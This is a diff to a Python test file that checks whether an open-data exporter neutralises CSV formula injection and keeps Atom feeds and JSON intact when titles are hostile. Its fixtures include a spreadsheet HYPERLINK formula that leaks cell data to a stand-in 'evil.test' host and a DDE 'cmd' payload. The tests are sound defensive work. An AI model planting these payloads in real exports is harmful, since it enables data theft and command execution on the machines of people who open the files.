@@ -190,9 +190,11 @@ import xml.etree.ElementTree as ET  # noqa: E402
 
 import yaml  # noqa: E402
 
+from qinqing.i18n import languages  # noqa: E402
 from qinqing.ingest.model import Localized  # noqa: E402
 from qinqing.pages import opendata  # noqa: E402
-from qinqing.pages.site import ui_strings  # noqa: E402
+
+TABLE = languages.load(DATA)
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
@@ -243,7 +245,7 @@ def test_formulas_in_the_data_are_text_in_every_csv(tmp_path):
         data["quotes"][0]["text"]["en"] = "@cmd"
 
     data = hostile_copy(tmp_path, edit)
-    files = opendata.downloads(data)
+    files = opendata.downloads(data, TABLE)
     rows = {name: parsed_csv(raw) for name, raw in files.items() if name.endswith(".csv")}
     [header, first, *_] = rows["data/activities.csv"]
     cell = dict(zip(header, first))
@@ -264,10 +266,10 @@ def test_the_real_csvs_are_unchanged_by_the_escaping():
     csv module writes from the records, and numbers stay numbers."""
     data = check(DATA).data
     for collection in COLLECTIONS:
-        raw = opendata.csv_bytes(data, collection)
+        raw = opendata.csv_bytes(data, collection, TABLE)
         for row in parsed_csv(raw):
             assert not [c for c in row if c.startswith("'")], (collection, row)
-    projects = parsed_csv(opendata.csv_bytes(data, "projects"))
+    projects = parsed_csv(opendata.csv_bytes(data, "projects", TABLE))
     amounts = [row[projects[0].index("amount_amount")] for row in projects[1:]]
     assert any(amounts) and all(re.fullmatch(r"\d+(\.\d+)?", a) for a in amounts if a)
 
@@ -301,7 +303,7 @@ def test_control_characters_in_titles_never_break_the_feed():
     data = with_titles(data, lambda t: Localized.model_construct(zh=hostile + t.zh, en=hostile + (t.en or ""),
                                                                  overrides={}))
     for lang in ("zh", "en"):
-        raw = opendata.atom_bytes(data, lang, "https://example.test/", ui_strings())
+        raw = opendata.atom_bytes(data, TABLE.edition(lang), "https://example.test/")
         root = ET.fromstring(raw)  # raises on a malformed document
         ns = {"a": "http://www.w3.org/2005/Atom"}
         titles = [e.find("a:title", ns).text for e in root.findall("a:entry", ns)]
@@ -314,7 +316,7 @@ def test_control_characters_in_titles_never_break_the_feed():
 def test_real_feeds_are_well_formed():
     data = check(DATA).data
     for lang in ("zh", "en", "zh-hant"):
-        ET.fromstring(opendata.atom_bytes(data, lang, "https://example.test/?a=1&b=<2>", ui_strings()))
+        ET.fromstring(opendata.atom_bytes(data, TABLE.edition(lang), "https://example.test/?a=1&b=<2>"))
 
 
 @pytest.mark.parametrize("text", ['"}, "x": 1, {"', "back\\slash", "nul\x00 esc\x1b", "</script><!--", "\u2028\u2029",
@@ -330,7 +332,7 @@ def test_hostile_titles_round_trip_through_the_published_json():
     data = check(DATA).data
     hostile = '"}\\\x00\x1b</script>'
     data = with_titles(data, lambda t: Localized.model_construct(zh=hostile, en=t.en, overrides={}))
-    published = json.loads(opendata.json_bytes(data))
+    published = json.loads(opendata.json_bytes(data, TABLE))
     assert published["activities"][0]["title"]["zh"] == hostile
 
 
